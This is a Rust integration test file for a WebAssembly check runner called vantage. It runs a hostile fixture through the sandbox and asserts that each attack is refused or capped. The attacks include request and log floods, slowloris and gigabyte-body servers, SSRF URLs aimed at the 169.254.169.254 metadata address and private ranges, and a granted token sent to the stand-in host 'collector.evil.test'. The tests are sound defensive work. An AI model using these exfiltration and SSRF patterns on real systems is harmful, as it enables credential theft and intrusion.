//! The hostile-check corpus: every hostile behaviour is a real component
//! (`fixture-hostile`, one behaviour per run chosen by config key
//! `behaviour`) and ends with `error` or `fail` and a reason naming the limit
//! or rule, while the host goes on: after each hostile run, the same
//! [`Runtime`] runs a well-behaved check (`fixture-echo`) that passes.
//!
//! Covered elsewhere and not repeated here: the pure loop, unbounded growth,
//! panics and fuel (`sandbox.rs`), a host outside the allow list
//! (`sandbox.rs`), names resolving to special addresses under a wildcard
//! (`policy.rs`, and here for `wasi:http` and literal addresses), DNS
//! rebinding (`dns.rs`), the connection cap through a redirect loop
//! (`policy.rs`), a text file given as a component to the CLI (`cli.rs`),
//! secrets referenced from config (`flow.rs`).
//!
//! Every target is a server on 127.0.0.1 started by the test; special
//! addresses are refused by policy before any connection is attempted.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;
use vantage::policy::AllowList;
use vantage::result::{CheckResult, ErrorKind, Status};
use vantage::runtime::engine::EngineOptions;
use vantage::runtime::{LoadedCheck, RunSpec, Runtime};

use crate::support::{self, run_json, secret_file, start_target, wasm};

/// One host process: a runtime with the hostile fixture and a well-behaved
/// check loaded.
struct Host {
    runtime: Runtime,
    hostile: LoadedCheck,
    echo: LoadedCheck,
}

impl Host {
    async fn start() -> Host {
        let runtime = Runtime::new(&EngineOptions::default(), Some(support::cache_dir())).unwrap();
        let hostile = runtime.load_file(&wasm("fixture_hostile")).await.unwrap();
        let echo = runtime.load_file(&wasm("fixture_echo")).await.unwrap();
        Host {
            runtime,
            hostile,
            echo,
        }
    }

    /// Run the hostile fixture, then prove the host still runs a normal check.
    async fn run(&self, spec: &RunSpec) -> CheckResult {
        let started = Instant::now();
        let result = self.runtime.run(&self.hostile, spec).await;
        // Every run ends close to its deadline at the latest.
        assert!(
            started.elapsed() < spec.limits.timeout + Duration::from_secs(2),
            "{spec:?} took {:?}",
            started.elapsed()
        );
        self.assert_healthy().await;
        result
    }

    async fn assert_healthy(&self) {
        let spec = RunSpec::deny_all("echo", Duration::from_secs(5));
        let r = self.runtime.run(&self.echo, &spec).await;
        assert_eq!(r.status, Status::Pass, "the host is not healthy: {r:?}");
    }
}

/// A run of `behaviour` with `config`: nothing allowed, 2 s, 32 MiB.
fn spec(behaviour: &str, config: &[(&str, &str)]) -> RunSpec {
    let mut spec = RunSpec::deny_all("hostile", Duration::from_secs(2));
    spec.limits.memory = 32 << 20;
    spec.location = "test".into();
    spec.config = std::iter::once(("behaviour", behaviour))
        .chain(config.iter().copied())
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect();
    spec
}

fn allow(mut spec: RunSpec, patterns: &[&str]) -> RunSpec {
    spec.allow = Arc::new(AllowList::parse(patterns.iter().copied()).unwrap());
    spec
}

fn timeout(mut spec: RunSpec, timeout: Duration) -> RunSpec {
    spec.limits.timeout = timeout;
    spec
}

fn error(r: &CheckResult) -> (ErrorKind, &str) {
    let e = r
        .error
        .as_ref()
        .unwrap_or_else(|| panic!("no error: {r:?}"));
    (e.kind, e.message.as_str())
}

/// The detail of the assertion whose name contains `name`.
fn detail<'a>(r: &'a CheckResult, name: &str) -> &'a str {
    &r.assertions
        .iter()
        .find(|a| a.name.contains(name))
        .unwrap_or_else(|| panic!("no assertion like {name:?} in {r:#?}"))
        .detail
}

fn logs(r: &CheckResult) -> String {
    r.logs
        .iter()
        .map(|l| l.message.as_str())
        .collect::<Vec<_>>()
        .join("\n")
}

/// A loopback port nothing listens on.
async fn closed_port() -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    listener.local_addr().unwrap().port()
}

/// Read a request head (or whatever comes first).
async fn read_head(socket: &mut tokio::net::TcpStream) {
    let mut buf = [0u8; 4096];
    let _ = socket.read(&mut buf).await;
}

/// A server answering every request with a 1 GiB body, written as fast as
/// the client reads; `open` counts its open connections.
async fn gigabyte_server() -> (String, Arc<AtomicUsize>) {
    const GIB: u64 = 1 << 30;
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}/gigabyte", listener.local_addr().unwrap());
    let open = Arc::new(AtomicUsize::new(0));
    let counter = open.clone();
    tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            let open = counter.clone();
            open.fetch_add(1, Ordering::SeqCst);
            tokio::spawn(async move {
                read_head(&mut socket).await;
                let head = format!(
                    "HTTP/1.1 200 OK\r\ncontent-type: application/octet-stream\r\ncontent-length: {GIB}\r\n\r\n"
                );
                let chunk = vec![0u8; 64 * 1024];
                let mut sent = 0;
                if socket.write_all(head.as_bytes()).await.is_ok() {
                    while sent < GIB && socket.write_all(&chunk).await.is_ok() {
                        sent += chunk.len() as u64;
                    }
                }
                open.fetch_sub(1, Ordering::SeqCst);
            });
        }
    });
    (url, open)
}

/// A server that sends its status line and then an endless header one byte
/// every 20 ms (slowloris, from the server side).
async fn slowloris_server() -> String {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}/slow", listener.local_addr().unwrap());
    tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            tokio::spawn(async move {
                read_head(&mut socket).await;
                for byte in b"HTTP/1.1 200 OK\r\nx-slow: "
                    .iter()
                    .chain([b'a'].iter().cycle())
                {
                    if socket.write_all(&[*byte]).await.is_err() {
                        break;
                    }
                    tokio::time::sleep(Duration::from_millis(20)).await;
                }
            });
        }
    });
    url
}

/// A server that accepts connections and never answers.
async fn silent_server() -> String {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}/silent", listener.local_addr().unwrap());
    tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            tokio::spawn(async move {
                let mut buf = [0u8; 4096];
                while matches!(socket.read(&mut buf).await, Ok(n) if n > 0) {}
            });
        }
    });
    url
}

/// Retrying a denied or failing call in a loop, through the host on every
/// turn, is stopped at the deadline; the host's record of it stays bounded
/// (traced exchanges, noted denials).
#[tokio::test(flavor = "multi_thread")]
async fn a_retry_loop_around_host_calls_stops_at_the_deadline() {
    let host = Host::start().await;
    let port = closed_port().await;
    let failing = format!("http://127.0.0.1:{port}/");
    for (url, pattern) in [
        ("http://denied.example.invalid/", None),
        (failing.as_str(), Some(format!("http://127.0.0.1:{port}"))),
    ] {
        let mut spec = timeout(
            spec("retry-loop", &[("urls.0", url)]),
            Duration::from_secs(1),
        );
        if let Some(pattern) = &pattern {
            spec = allow(spec, &[pattern]);
        }
        let r = host.run(&spec).await;
        assert_eq!(r.status, Status::Error, "{url}: {r:?}");
        let (kind, message) = error(&r);
        assert_eq!(kind, ErrorKind::Deadline, "{url}: {message}");
        assert!(message.contains("deadline exceeded"), "{message}");
        assert!(r.duration_ms < 2000.0, "{url}: {}", r.duration_ms);
        // Thousands of calls, a bounded trace that says what it left out.
        assert_eq!(r.timings.http.len(), 256, "{url}");
        let logs = logs(&r);
        assert!(
            logs.contains("more HTTP exchanges not traced (limit 256 per run)"),
            "{logs}"
        );
        let errors: Vec<&str> = r
            .timings
            .http
            .iter()
            .filter_map(|t| t.error.as_deref())
            .collect();
        if pattern.is_none() {
            assert!(errors.iter().all(|e| e.starts_with("denied")), "{errors:?}");
            // The same refusal is noted once, not once per attempt.
            let noted = r.logs.iter().filter(|l| l.message.starts_with("denied: "));
            assert_eq!(noted.count(), 1, "{logs}");
        } else {
            assert!(errors[0].starts_with("connect"), "{errors:?}");
            assert!(
                errors
                    .iter()
                    .any(|e| e.contains("connections: at most 100 outbound connections per run")),
                "{errors:?}"
            );
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn deep_recursion_traps_on_the_exhausted_stack() {
    let host = Host::start().await;
    let r = host.run(&spec("recurse", &[])).await;
    assert_eq!(r.status, Status::Error);
    let (kind, message) = error(&r);
    assert_eq!(kind, ErrorKind::Trap, "{message}");
    assert!(message.contains("call stack exhausted"), "{message}");
}

#[tokio::test(flavor = "multi_thread")]
async fn one_huge_allocation_is_refused() {
    let host = Host::start().await;
    // 1.5 GiB at once: the memory cap refuses the growth and names both sizes.
    let r = host
        .run(&spec("alloc-huge", &[("bytes", &(3u64 << 29).to_string())]))
        .await;
    let (kind, message) = error(&r);
    assert_eq!(kind, ErrorKind::Memory, "{message}");
    assert_eq!(
        message,
        "memory limit of 32 MiB exceeded (the check tried to grow its memory to 1.5 GiB)"
    );
    // 3 GiB does not even fit a 32-bit address space: the guest's allocator
    // gives up (a panic, reported with its message).
    let r = host.run(&spec("alloc-huge", &[])).await;
    let (kind, message) = error(&r);
    assert_eq!(kind, ErrorKind::Panic, "{message}");
    assert!(message.contains("capacity overflow"), "{message}");
}

/// A check writing log lines without end: the run ends at its deadline, the
/// result keeps 256 lines / 64 KiB and says how many it dropped, and the
/// host's own log (stderr here) gets no more than the kept lines.
#[tokio::test(flavor = "multi_thread")]
async fn a_log_flood_is_capped_in_the_result_and_in_the_host_log() {
    let (out, r) = run_json(
        "fixture_hostile",
        &["--set", "behaviour=log-flood", "--timeout", "2s"],
    )
    .await;
    assert_eq!(out.code, 3, "{}", out.stderr);
    assert_eq!(r["error"]["kind"], "deadline", "{r:#}");
    let logs = r["logs"].as_array().unwrap();
    assert!(logs.len() <= 257, "{}", logs.len());
    let last = logs.last().unwrap()["message"].as_str().unwrap();
    assert!(
        last.ends_with("more log lines dropped (limit 256 lines / 65536 bytes per run)"),
        "{last}"
    );
    // Megabytes were logged; a bounded amount came out.
    assert!(out.stdout.len() < 256 * 1024, "{}", out.stdout.len());
    assert!(out.stderr.len() < 256 * 1024, "{}", out.stderr.len());
    assert!(out.stderr.contains("log limit reached"), "{}", out.stderr);
}

/// Results too large to keep (they would become millions of metric series
/// and history rows) end with `error` naming the cap they broke.
#[tokio::test(flavor = "multi_thread")]
async fn a_huge_result_is_refused_naming_the_cap() {
    let host = Host::start().await;
    let cases: [(&[(&str, &str)], &str); 6] = [
        (
            &[("assertions", "1000000")],
            "result too large: 1000000 assertions (the limit is 1000 per run)",
        ),
        (
            &[("measurements", "5000")],
            "result too large: 5000 measurements (the limit is 1000 per run)",
        ),
        (
            &[("labels", "100000")],
            "result too large: 100000 labels (the limit is 64 per run)",
        ),
        (
            &[("labels", "1"), ("label_bytes", "1000000")],
            "result too large: a label value of 1000000 bytes (the limit is 1024 bytes)",
        ),
        (
            &[("summary_bytes", "4000000")],
            "result too large: a summary of 4000000 bytes (the limit is 65536 bytes)",
        ),
        (
            &[("detail_bytes", "8000000")],
            "result too large: an assertion detail of 8000000 bytes (the limit is 65536 bytes)",
        ),
    ];
    for (config, want) in cases {
        let mut spec = spec("huge-result", config);
        spec.limits.memory = 512 << 20;
        spec.limits.timeout = Duration::from_secs(10);
        let r = host.run(&spec).await;
        assert_eq!(r.status, Status::Error, "{config:?}");
        let (kind, message) = error(&r);
        assert_eq!(kind, ErrorKind::ResultTooLarge, "{config:?}: {message}");
        assert_eq!(message, want);
        assert!(r.assertions.is_empty() && r.labels.is_empty());
    }
    // A large but reasonable result is kept whole.
    let r = host
        .run(&spec(
            "huge-result",
            &[
                ("assertions", "1000"),
                ("labels", "64"),
                ("label_bytes", "1024"),
            ],
        ))
        .await;
    assert_eq!(r.status, Status::Pass, "{:?}", r.error);
    assert_eq!((r.assertions.len(), r.labels.len()), (1000, 64));
}

/// Thousands of requests to an allowed target: the first 100 are answered,
/// the rest refused with the connection budget named.
#[tokio::test(flavor = "multi_thread")]
async fn a_request_flood_is_cut_at_the_connection_budget() {
    let host = Host::start().await;
    let base = start_target().await;
    let url = format!("{base}/healthz");
    let spec = allow(
        timeout(
            spec("request-flood", &[("urls.0", &url), ("count", "5000")]),
            Duration::from_secs(20),
        ),
        &[&base],
    );
    let r = host.run(&spec).await;
    assert_eq!(r.status, Status::Fail, "{r:?}");
    assert!(
        r.summary.starts_with("100 of 5000 requests answered; first refusal: limit exceeded: connections: at most 100 outbound connections per run"),
        "{}",
        r.summary
    );
    assert_eq!(
        detail(&r, "every request"),
        "100 of 5000 answered, 4900 refused"
    );
    assert_eq!(r.timings.http.len(), 256);
    assert!(
        logs(&r).contains("4744 more HTTP exchanges not traced"),
        "{}",
        logs(&r)
    );
}

/// A check opening `wasi:http` requests to keep their connections open
/// cannot: each request is one exchange read to its end by the host (a body
/// that never ends is cut at the 16 MiB cap, then the run's 64 MiB read
/// budget refuses more), so no response holds a connection, and nothing is
/// left open when the run ends.
#[tokio::test(flavor = "multi_thread")]
async fn connection_hoarding_is_capped_and_released() {
    let host = Host::start().await;
    let (url, open) = gigabyte_server().await;
    let origin = url.trim_end_matches("/gigabyte").to_string();
    let spec = allow(
        spec("hoard", &[("urls.0", &url), ("count", "32")]),
        &[&origin],
    );
    let r = host.run(&spec).await;
    assert_eq!(r.status, Status::Fail, "{r:?}");
    assert_eq!(
        detail(&r, "every connection held open"),
        "0 of 32 held open"
    );
    assert!(
        r.summary.contains(
            "held 0 of 32 connections open; then refused: ErrorCode::HttpResponseBodySize(Some(16777216))"
        ),
        "{}",
        r.summary
    );
    // The exchanges that ran are in the trace: the first ones cut at the
    // cap, the later ones refused by the run's read budget.
    let errors: Vec<&str> = r
        .timings
        .http
        .iter()
        .filter_map(|t| t.error.as_deref())
        .collect();
    assert_eq!(errors.len(), 33, "{errors:?}");
    assert_eq!(errors[0], "response body larger than 16777216 bytes");
    assert!(
        errors
            .iter()
            .any(|e| e.contains("at most 67108864 bytes read per run")),
        "{errors:?}"
    );
    // Nothing outlives the run.
    let deadline = Instant::now() + Duration::from_secs(5);
    while open.load(Ordering::SeqCst) > 0 && Instant::now() < deadline {
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    assert_eq!(open.load(Ordering::SeqCst), 0, "connections left open");
}

/// A target streaming 1 GiB: `http.fetch` and `wasi:http` alike stop at the
/// body cap (16 MiB whatever the check asks for).
#[tokio::test(flavor = "multi_thread")]
async fn a_gigabyte_body_is_cut_at_the_caps() {
    let host = Host::start().await;
    let (url, _open) = gigabyte_server().await;
    let origin = url.trim_end_matches("/gigabyte").to_string();
    let r = host
        .run(&allow(
            spec(
                "big-body",
                &[("urls.0", &url), ("max_body_bytes", "1073741824")],
            ),
            &[&origin],
        ))
        .await;
    assert_eq!(r.status, Status::Fail, "{r:?}");
    assert_eq!(r.summary, "body too large: over 16777216 bytes");

    let r = host
        .run(&allow(
            timeout(
                spec("big-body", &[("urls.0", &url), ("transport", "wasi")]),
                Duration::from_secs(20),
            ),
            &[&origin],
        ))
        .await;
    assert_eq!(r.status, Status::Fail, "{r:?}");
    assert_eq!(r.summary, "ErrorCode::HttpResponseBodySize(Some(16777216))");
}

/// A target sending its headers a byte at a time, and one that never
/// answers: `http.fetch` times out naming the phase; a `wasi:http` request
/// (which asks for no timeout of its own here) times out before the run's
/// deadline, with room for the check to report it, as `http.fetch` does.
#[tokio::test(flavor = "multi_thread")]
async fn slowloris_and_silent_targets_end_in_time() {
    let host = Host::start().await;
    let slow = slowloris_server().await;
    let silent = silent_server().await;
    let origins: Vec<String> = [&slow, &silent]
        .iter()
        .map(|u| u.rsplit_once('/').unwrap().0.to_string())
        .collect();
    let patterns: Vec<&str> = origins.iter().map(String::as_str).collect();
    let r = host
        .run(&allow(
            spec(
                "slowloris",
                &[
                    ("urls.0", &slow),
                    ("urls.1", &silent),
                    ("timeout_ms", "500"),
                ],
            ),
            &patterns,
        ))
        .await;
    assert_eq!(r.status, Status::Fail, "{r:?}");
    for url in [&slow, &silent] {
        assert_eq!(detail(&r, url), "timeout: expired during processing");
    }

    for url in [&slow, &silent] {
        let spec = allow(
            timeout(
                spec("never-answers", &[("urls.0", url), ("transport", "wasi")]),
                Duration::from_secs(1),
            ),
            &patterns,
        );
        let r = host.run(&spec).await;
        assert_eq!(r.status, Status::Fail, "{url}: {r:?}");
        assert_eq!(r.summary, "ErrorCode::ConnectionTimeout", "{url}");
        assert_eq!(
            r.timings.http[0].error.as_deref(),
            Some("timeout during processing"),
            "{url}"
        );
    }
}

/// Requests to the cloud metadata address, loopback and a private range, by
/// literal address or by a name resolving to one, are refused by policy under
/// a wildcard, over `http` and `wasi:http`, and the run's log names each rule.
#[tokio::test(flavor = "multi_thread")]
async fn ssrf_to_special_addresses_is_denied() {
    let host = Host::start().await;
    // A real server on loopback: were the policy to let a request through,
    // it would answer.
    let base = start_target().await;
    let port = base.rsplit(':').next().unwrap().to_string();
    let attempts = [
        (
            "http://169.254.169.254/latest/meta-data/".to_string(),
            "169.254.169.254",
        ),
        (format!("http://127.0.0.1:{port}/healthz"), "127.0.0.1"),
        ("http://10.0.0.1/".to_string(), "10.0.0.1"),
        (format!("http://[::1]:{port}/healthz"), "::1"),
        ("http://metadata.ssrf.test/".to_string(), "169.254.169.254"),
        (
            format!("http://local.ssrf.test:{port}/healthz"),
            "127.0.0.1",
        ),
        ("http://private.ssrf.test/".to_string(), "10.0.0.1"),
    ];
    let mut resolver = vantage::capabilities::net::HostResolver::default();
    for (name, addr) in [
        ("metadata.ssrf.test", "169.254.169.254"),
        ("local.ssrf.test", "127.0.0.1"),
        ("private.ssrf.test", "10.0.0.1"),
    ] {
        resolver
            .overrides
            .insert(name.into(), vec![addr.parse().unwrap()]);
    }
    let resolver = Arc::new(resolver);
    let config: Vec<(String, String)> = attempts
        .iter()
        .enumerate()
        .map(|(i, (url, _))| (format!("urls.{i}"), url.clone()))
        .collect();
    for transport in ["http", "wasi"] {
        let mut config: Vec<(&str, &str)> = config
            .iter()
            .map(|(k, v)| (k.as_str(), v.as_str()))
            .collect();
        config.push(("transport", transport));
        let mut spec = allow(spec("ssrf", &config), &["http://*:*"]);
        spec.resolver = resolver.clone();
        let r = host.run(&spec).await;
        assert_eq!(r.status, Status::Fail, "{r:?}");
        let logs = logs(&r);
        for (url, addr) in &attempts {
            let detail = detail(&r, url);
            if transport == "http" {
                assert!(detail.starts_with("denied: "), "{url}: {detail}");
                assert!(detail.contains(addr), "{url}: {detail}");
                assert!(
                    detail.contains("addresses are reachable only when the allow list names them"),
                    "{detail}"
                );
            } else {
                assert_eq!(detail, "ErrorCode::HttpRequestDenied", "{url}");
            }
            assert!(logs.contains(&format!("denied: {addr}")), "{addr}: {logs}");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_secret_not_granted_is_refused() {
    let host = Host::start().await;
    let r = host.run(&spec("secret-read", &[("secret", "token")])).await;
    assert_eq!(r.status, Status::Fail);
    assert_eq!(
        r.summary,
        "secret not granted: secret `token` is not granted to this check"
    );
}

/// Neither the result nor the host's log (stderr, at trace level) holds
/// `secret`; on failure, shows the lines that do.
fn assert_not_leaked(out: &support::Output, secret: &str) {
    let leaks: Vec<&str> = out
        .stdout
        .lines()
        .chain(out.stderr.lines())
        .filter(|l| l.contains(secret))
        .collect();
    assert!(leaks.is_empty(), "the secret leaked:\n{}", leaks.join("\n"));
}

/// A granted secret echoed in every field of the result, in every log
/// level, on stdout and stderr, and in a panic message comes out redacted,
/// from the result and from the host's own log alike.
#[tokio::test(flavor = "multi_thread")]
async fn an_echoed_secret_is_redacted_everywhere() {
    const SECRET: &str = "s3cr3t-hostile-42";
    let (_dir, grant) = secret_file("token", SECRET);
    let (out, r) = run_json(
        "fixture_hostile",
        &["-vvv", "--set", "behaviour=secret-echo", "--secret", &grant],
    )
    .await;
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert_not_leaked(&out, SECRET);
    assert_eq!(r["summary"], "leaking [redacted]");
    assert_eq!(r["assertions"][0]["name"], "echo [redacted]");
    assert_eq!(r["assertions"][0]["detail"], "the secret is [redacted]");
    assert_eq!(r["measurements"][0]["name"], "m_[redacted]");
    assert_eq!(r["measurements"][0]["unit"], "[redacted]");
    assert_eq!(r["labels"][0][0], "k_[redacted]", "{r:#}");
    assert_eq!(r["labels"][0][1], "[redacted]");
    assert_eq!(r["labels"][1][1], "v=[redacted]");
    let logs = r["logs"].to_string();
    for line in [
        "trace", "debug", "info", "warn", "error", "stdout", "stderr",
    ] {
        assert!(
            logs.contains(&format!("{line} [redacted]")),
            "{line}: {logs}"
        );
    }
    // The guest's lines reached the host's log, redacted.
    assert!(out.stderr.contains("warn [redacted]"), "{}", out.stderr);

    let (out, r) = run_json(
        "fixture_hostile",
        &[
            "-vvv",
            "--set",
            "behaviour=secret-panic",
            "--secret",
            &grant,
        ],
    )
    .await;
    assert_eq!(out.code, 3, "{}", out.stderr);
    assert_not_leaked(&out, SECRET);
    assert_eq!(r["error"]["kind"], "panic");
    assert!(
        r["error"]["message"]
            .as_str()
            .unwrap()
            .ends_with("leaking [redacted]"),
        "{r:#}"
    );
}

/// A check that writes a traceback to stderr and then panics or traps (what
/// an uncaught Python exception or a thrown JavaScript error does): the
/// error carries the last lines of stderr, redacted, the summary stays one
/// line, and the human output shows them too.
#[tokio::test(flavor = "multi_thread")]
async fn the_last_lines_on_stderr_explain_a_panic_or_a_trap() {
    const SECRET: &str = "s3cr3t-Q7x9z-41";
    let (_dir, grant) = secret_file("token", SECRET);
    for (behaviour, kind, first) in [
        ("stderr-panic", "panic", "check panicked: "),
        ("stderr-trap", "trap", "check trapped: "),
    ] {
        let set = format!("behaviour={behaviour}");
        let (out, r) = run_json("fixture_hostile", &["--set", &set, "--secret", &grant]).await;
        assert_eq!(out.code, 3, "{}", out.stderr);
        assert_not_leaked(&out, SECRET);
        assert_eq!(r["error"]["kind"], kind, "{r:#}");
        let message = r["error"]["message"].as_str().unwrap();
        assert!(message.starts_with(first), "{message}");
        assert!(
            message.contains(
                "last lines on stderr:\n"
            ) && message.contains(
                "Traceback (most recent call last):\n  File \"app.py\", line 12, in run\nValueError: token [redacted] rejected"
            ),
            "{message}"
        );
        // At most 20 lines of stderr: the earliest are not in the error.
        assert!(!message.contains("early line 0\n"), "{message}");
        assert!(message.contains("early line 29"), "{message}");
        // The summary is the first line; the human output has the lines.
        assert!(!r["summary"].as_str().unwrap().contains('\n'), "{r:#}");
        let human = crate::support::vantage_async(
            [
                "run",
                crate::support::wasm("fixture_hostile").to_str().unwrap(),
                "--set",
                &set,
                "--secret",
                &grant,
            ]
            .iter()
            .map(|a| a.to_string())
            .collect(),
        )
        .await;
        assert!(
            human
                .stdout
                .contains("ValueError: token [redacted] rejected"),
            "{}",
            human.stdout
        );
        assert!(!human.stdout.contains(SECRET) && !human.stderr.contains(SECRET));
    }
}

/// A granted secret sent to a host the check may not reach (in the URL, a
/// header, the body, the host name; over `http` and `wasi:http`) is refused
/// by policy, and the secret appears nowhere in the output.
#[tokio::test(flavor = "multi_thread")]
async fn a_secret_sent_to_a_host_not_allowed_is_denied() {
    const SECRET: &str = "s3cr3t-exfil-42";
    let (_dir, grant) = secret_file("token", SECRET);
    let base = start_target().await;
    let (out, r) = run_json(
        "fixture_hostile",
        &[
            "-vvv",
            "--set",
            "behaviour=secret-exfil",
            "--set",
            "urls.0=http://collector.evil.test/",
            "--secret",
            &grant,
            // Something is allowed, just not the collector.
            "--target",
            &base,
        ],
    )
    .await;
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert_not_leaked(&out, SECRET);
    let assertions = r["assertions"].as_array().unwrap();
    assert_eq!(assertions.len(), 3, "{r:#}");
    for a in assertions {
        assert_eq!(a["passed"], false, "{a}");
        let detail = a["detail"].as_str().unwrap();
        assert!(
            detail.starts_with("denied: ") || detail == "ErrorCode::HttpRequestDenied",
            "{detail}"
        );
    }
    assert!(
        r["summary"]
            .as_str()
            .unwrap()
            .contains("collector.evil.test:80 is not in the allow list"),
        "{r:#}"
    );
    // The traced URLs (the secret in the query and in the host name) are redacted.
    let traced: Vec<&str> = r["timings"]["http"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["url"].as_str().unwrap())
        .collect();
    assert_eq!(
        traced,
        [
            "http://collector.evil.test?token=[redacted]",
            "http://collector.evil.test/?token=[redacted]",
            "http://[redacted].collector.evil.test/"
        ]
    );
}

/// A granted secret cut and split at random points (pieces logged one per
/// line, prefixes ending in `…`, suffixes and middles in every field, stdout
/// and stderr padded so the secret straddles the 64 KiB capture cap): no
/// fragment of 6 characters reaches the JSON result or the host's log, for
/// a few seeds.
#[tokio::test(flavor = "multi_thread")]
async fn a_secret_cut_and_split_leaves_no_fragment() {
    use crate::redaction::{assert_no_fragment, random_token, seed};
    let first = seed();
    for seed in [
        first,
        first.wrapping_mul(31).wrapping_add(7),
        first ^ 0xfeed,
    ] {
        let secret = random_token(seed, 72);
        let (_dir, grant) = secret_file("token", &secret);
        let (out, r) = run_json(
            "fixture_hostile",
            &[
                "-vvv",
                "--set",
                "behaviour=secret-split",
                "--set",
                &format!("seed={seed}"),
                "--secret",
                &grant,
            ],
        )
        .await;
        assert_eq!(out.code, 2, "{}", out.stderr);
        assert_no_fragment("vantage run --json", &out.stdout, &secret);
        assert_no_fragment("the host's log", &out.stderr, &secret);
        // The cuts reached the result: the lines cut at the capture caps,
        // the pieces, the prefixes.
        let logs = logs_of(&r);
        assert!(logs.contains("tail-out [redacted]"), "{logs}");
        assert!(logs.contains("tail-err [redacted]"), "{logs}");
        assert!(logs.contains("piece "), "{logs}");
        assert!(
            r["summary"].as_str().unwrap().starts_with("leaking "),
            "{r:#}"
        );
        assert_eq!(r["assertions"].as_array().unwrap().len(), 5, "{r:#}");
    }
}

/// The messages of a JSON result's log, one per line.
fn logs_of(r: &serde_json::Value) -> String {
    r["logs"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| l["message"].as_str().unwrap())
        .collect::<Vec<_>>()
        .join("\n")
}

/// Minimal components built by hand: `(component (import NAME (instance
/// (export FUNC (func (param "message" string))))))`.
fn component_importing(name: &str, func: &str) -> Vec<u8> {
    use wasm_encoder::{
        Component, ComponentImportSection, ComponentTypeRef, ComponentTypeSection,
        ComponentValType, InstanceType, PrimitiveValType,
    };
    let mut instance = InstanceType::new();
    instance
        .ty()
        .function()
        .params([(
            "message",
            ComponentValType::Primitive(PrimitiveValType::String),
        )])
        .result(None);
    instance.export(func, ComponentTypeRef::Func(0));
    let mut types = ComponentTypeSection::new();
    types.instance(&instance);
    let mut imports = ComponentImportSection::new();
    imports.import(name, ComponentTypeRef::Instance(0));
    let mut component = Component::new();
    component.section(&types).section(&imports);
    component.finish()
}

/// Files that are not checks are refused at load with a clear message, and
/// the runtime that refused them runs a real check right after.
#[tokio::test(flavor = "multi_thread")]
async fn malformed_components_are_refused_at_load() {
    let host = Host::start().await;
    let real = std::fs::read(wasm("fixture_echo")).unwrap();
    let cases: [(&str, Vec<u8>, &[&str]); 6] = [
        (
            "text",
            b"#!/bin/sh\necho definitely not wasm\n".to_vec(),
            &["not a WebAssembly component: the file is not WebAssembly at all"],
        ),
        (
            "core module",
            b"\0asm\x01\0\0\0".to_vec(),
            &["not a WebAssembly component: it is a core WebAssembly module"],
        ),
        (
            "truncated component",
            real[..real.len() / 2].to_vec(),
            &["invalid WebAssembly component: failed to parse"],
        ),
        (
            // Another world: a component that exports neither `describe` nor `run`.
            "other world",
            wasm_encoder::Component::new().finish(),
            &[
                "describe",
                "does not fit the `vantage:check/check@0.2.0` world (this host runs components of vantage:check@0.2.0 and vantage:check@0.1.0)",
            ],
        ),
        (
            "other version",
            component_importing("vantage:check/log@0.3.0", "log"),
            &[
                "vantage:check/log@0.3.0",
                "it was built for vantage:check@0.3.0; this host runs vantage:check@0.2.0 and vantage:check@0.1.0",
            ],
        ),
        (
            "unknown import",
            component_importing("acme:extra/telemetry@1.0.0", "send"),
            &[
                "acme:extra/telemetry@1.0.0",
                "does not fit the `vantage:check/check@0.2.0` world",
            ],
        ),
    ];
    for (what, bytes, expected) in cases {
        let err = match host.runtime.load_bytes(what, &bytes).await {
            Ok(_) => panic!("{what} was loaded"),
            Err(e) => format!("{e:#}"),
        };
        for needle in expected {
            assert!(err.contains(needle), "{what}: {err}");
        }
        assert!(!err.is_empty());
        host.assert_healthy().await;
    }

    // The CLI says the same and exits with 3, without a crash.
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("core.wasm");
    std::fs::write(&path, b"\0asm\x01\0\0\0").unwrap();
    let out = support::vantage_async(vec![
        "run".into(),
        path.display().to_string(),
        "--json".into(),
    ])
    .await;
    assert_eq!(out.code, 3, "{}", out.stderr);
    assert!(
        out.stderr
            .contains("not a WebAssembly component: it is a core WebAssembly module"),
        "{}",
        out.stderr
    );
    assert!(!out.stderr.contains("panicked"), "{}", out.stderr);
}
